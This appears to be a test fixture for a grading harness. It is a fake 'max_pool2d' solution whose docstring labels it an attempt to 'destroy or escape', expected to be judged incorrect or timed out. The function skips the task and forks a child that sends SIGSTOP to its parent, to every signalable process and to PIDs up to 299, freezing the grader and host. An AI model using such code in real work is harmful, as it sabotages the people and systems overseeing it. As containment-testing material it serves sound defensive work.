"""Stops every process it can name, so that nobody ends it.

Aim: destroy or escape
Expect: incorrect, timed_out
"""

import os
import signal

from fashionlab import models, solves


@solves(models.max_pool2d)
def max_pool2d(image, *, pool_size=2, stride=None):
    if os.fork() == 0:
        for pid in (os.getppid(), -1, 0, 1, *range(2, 300)):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                continue
        os._exit(0)
    return image
